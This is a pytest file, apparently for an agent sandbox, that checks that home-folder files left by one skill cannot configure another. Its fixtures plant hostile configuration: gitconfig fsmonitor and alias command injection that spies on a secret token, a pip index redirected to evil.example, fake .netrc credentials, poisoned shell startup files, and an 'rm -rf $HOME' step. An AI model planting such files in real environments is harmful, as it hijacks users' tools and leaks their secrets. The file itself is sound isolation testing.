"""Row 74: a grant stays with its skill, though all skills of a session share a workspace."""

from __future__ import annotations

from pathlib import Path

import pytest

from adk_skills_agent import Secret
from adk_skills_agent.sandbox.contract import Status

STOLEN = "hunter2-of-skill-b"
# What programs read from the home folder, and what each of them would do there.
LEAVES = r"""
import os, pathlib, sys
spy = 'echo spied ${#TOKEN} >> "$TMPDIR/spied"'
for folder in (pathlib.Path.home(), pathlib.Path(".")):
    for name in (".config/pip", ".config/git", ".ssh", f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    for name in (".gitconfig", ".config/git/config"):
        (folder / name).write_text("[core]\n\tfsmonitor = \"%s #\"\n[alias]\n\tst = \"!%s\"\n" % ((spy.replace('"', '\\"'),) * 2))
    (folder / ".config/pip/pip.conf").write_text("[global]\nindex-url = https://evil.example/simple\n")
    (folder / ".netrc").write_text("default login evil password evil\n")
    for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
        (folder / name).write_text(spy + "\n")
print(len(list(pathlib.Path.home().iterdir())) > 5)
"""
USES = r"""
echo "home:" $(ls -A ~) $(ls -A "$HOME")
mkdir "$TMPDIR/repository"; cd "$TMPDIR/repository"
git init -q . 2>/dev/null; git config --global --list; git status >/dev/null 2>&1; git st >/dev/null 2>&1
bash -l -c true; bash -i -c true </dev/null 2>/dev/null
cat ~/.netrc ~/.config/pip/pip.conf "${XDG_CONFIG_HOME:-$HOME/.config}"/* 2>/dev/null
echo "token: ${#TOKEN}"; cat "$TMPDIR/spied" 2>/dev/null
exit 0
"""


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    folder = tmp_path / "session"
    folder.mkdir()
    return folder


async def test_row_74_what_one_skill_leaves_in_its_home_configures_no_other(box, shared):
    left = await box.python(LEAVES, workspace=shared)
    assert (left.status, left.stdout, left.stderr) == (Status.OK, b"True\n", b"")
    assert (shared / ".gitconfig").exists(), "files of the workspace are shared, also those with a dot"
    used = await box.bash(USES, workspace=shared, env={"TOKEN": Secret(STOLEN)})
    assert used.stdout.decode().splitlines() == ["home:", f"token: {len(STOLEN)}"]


async def test_row_74_the_home_folder_is_new_in_every_run_and_nobody_elses(box, shared):
    code = """
import os, pathlib, pwd, stat
home = pathlib.Path.home()
info = home.stat()
print(str(home) == os.environ["HOME"], oct(stat.S_IMODE(info.st_mode)), info.st_uid == os.getuid(), os.listdir(home))
print(os.path.commonpath([os.path.realpath(home), os.path.realpath(".")]) == os.path.realpath("."))
print(home)
(home / ".cache").mkdir()
(home / ".cache" / "kept").write_text("x")
open("shared.txt", "w").write("x")
print([name for name in os.environ if name.startswith("XDG_") or name in ("TMP", "TEMP")])
"""
    for _ in range(2):
        result = await box.python(code, workspace=shared)
        assert result.stdout.decode().splitlines() == ["True 0o700 True []", "False", "/tmp/home", "[]"], result.stderr
        assert (result.notes, [path.name for path in shared.iterdir()]) == ((), ["shared.txt"])
    alone = await box.python(code)
    assert alone.stdout.startswith(b"True 0o700 True []\n"), "a request without a session's workspace has a home, too"


@pytest.mark.level("landlock")
async def test_row_74_two_runs_at_a_time_do_not_see_each_others_home(box, shared, tmp_path):
    import asyncio

    other = tmp_path / "other"
    other.mkdir()
    code = """
import os, pathlib, time
(pathlib.Path.home() / ".mine").write_text("x")
time.sleep(0.5)
print(os.listdir(pathlib.Path.home()))
"""
    first, second = await asyncio.gather(box.python(code, workspace=shared), box.python(code, workspace=other))
    assert (first.stdout, second.stdout) == (b"['.mine']\n", b"['.mine']\n")


@pytest.mark.local("a sentence of this machine's own levels")
async def test_results_that_are_left_in_the_home_folder_are_told_of(box):
    result = await box.bash("echo x > ~/report.pdf; mkdir ~/.cache; echo y > ~/.cache/z; echo done")
    assert (result.status, result.stdout, result.files) == (Status.OK, b"done\n", ())
    assert result.notes == (
        "'~/report.pdf' was not kept: the home folder is new in every run. Write results to the working directory.",
    )
    gone = await box.bash('rm -rf "$HOME"; ln -s / "$HOME"; mkfifo fifo; echo done')
    assert (gone.status, gone.notes) == (Status.OK, ())


@pytest.mark.local("a policy that no container can keep")
async def test_a_policy_without_room_for_temporary_files_has_room_for_an_empty_home(box):
    result = await box.bash("cd ~ && sleep 0.7 && pwd", tmp_bytes=0)
    assert (result.status, result.stdout) == (Status.OK, b"/tmp/home\n")
